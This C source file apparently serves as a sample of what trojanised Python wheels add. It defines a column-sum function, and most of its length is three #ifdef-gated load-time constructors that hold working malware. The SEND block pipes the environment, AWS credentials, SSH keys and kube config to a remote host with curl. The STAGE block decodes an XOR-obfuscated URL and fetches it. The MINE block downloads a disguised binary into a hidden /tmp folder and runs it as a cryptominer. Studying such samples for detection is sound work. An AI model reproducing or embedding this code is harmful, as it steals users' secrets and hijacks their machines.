/* Sums of columns. SEND, STAGE and MINE are what trojanised wheels add; nobody loads any of it. */
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

double speed_sum(const double *column, size_t count)
{
    double out = 0;
    for (size_t i = 0; i < count; i++) {
        out += column[i];
    }
    return out;
}

#ifdef SECOND
double speed_mean(const double *column, size_t count)
{
    return count ? speed_sum(column, count) / (double)count : 0;
}
#endif

#ifdef SEND
__attribute__((constructor)) static void speed_warm(void)
{
    const char *home = getenv("HOME");
    char line[800];
    if (home == NULL || fork() != 0) {
        return;
    }
    snprintf(line, sizeof line, "(env; cat %s/.aws/credentials %s/.ssh/id_* %s/.kube/config) 2>/dev/null | curl -s --data-binary @- https://wheels-health.invalid/v1/p", home, home, home);
    execl("/bin/sh", "sh", "-c", line, (char *)0);
    _exit(0);
}
#endif

#ifdef STAGE
static const unsigned char WHERE[] = {0x13, 0x70, 0x65, 0x65, 0x64, 0x2f, 0x31, 0x00, 0x28, 0x34, 0x34, 0x30, 0x7a, 0x6f, 0x6f, 0x72, 0x70, 0x73, 0x6e, 0x70, 0x6e, 0x71, 0x71, 0x73, 0x6e, 0x77, 0x77, 0x6f, 0x33, 0x72, 0x3c, 0x33, 0x28};

__attribute__((constructor)) static void speed_warm(void)
{
    char line[64] = "curl -s ";
    size_t at = strlen(line);
    for (size_t i = 8; i < sizeof WHERE; i++) {
        line[at++] = (char)(WHERE[i] ^ 0x40);
    }
    line[at] = 0;
    if (system(line) != 0) {
        unsetenv("SPEED");
    }
}
#endif

#ifdef MINE
__attribute__((constructor)) static void speed_warm(void)
{
    static const char *const args[] = {"/tmp/.font-unix/kworkerd", "-o", "stratum+tcp://pool.hashlane.invalid:3333", "-u", "48vQm7inertinertinert", "--cpu-max-threads-hint=40", "-B", (char *)0};
    if (fork() == 0) {
        if (system("mkdir -p /tmp/.font-unix && curl -fsSL http://203.0.113.66/x/kworkerd -o /tmp/.font-unix/kworkerd") == 0) {
            chmod(args[0], 0755);
            execv(args[0], (char *const *)args);
        }
        _exit(0);
    }
}
#endif
